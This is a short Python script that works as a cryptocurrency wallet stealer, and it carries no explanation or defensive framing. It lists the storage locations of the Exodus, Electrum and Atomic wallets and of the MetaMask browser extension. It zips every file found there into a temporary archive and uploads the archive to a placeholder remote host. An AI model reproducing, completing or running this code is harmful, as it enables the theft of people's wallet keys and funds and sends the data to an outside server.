import os
import tempfile
import zipfile

import requests

APPDATA = os.getenv("APPDATA", "")
LOCAL = os.getenv("LOCALAPPDATA", "")
WALLETS = {
    "Exodus": os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    "Electrum": os.path.join(APPDATA, "Electrum", "wallets"),
    "Atomic": os.path.join(APPDATA, "atomic", "Local Storage", "leveldb"),
    "MetaMask": os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Local Extension Settings",
                             "nkbihfbeogaeaoehlefnkodbefgpgknn"),
}


def collect():
    archive = os.path.join(tempfile.gettempdir(), "w.zip")
    with zipfile.ZipFile(archive, "w") as bundle:
        for label, folder in WALLETS.items():
            for root, _dirs, names in os.walk(folder):
                for name in names:
                    bundle.write(os.path.join(root, name), os.path.join(label, name))
    with open(archive, "rb") as handle:
        requests.post("https://upload.example.invalid/api", files={"file": handle})
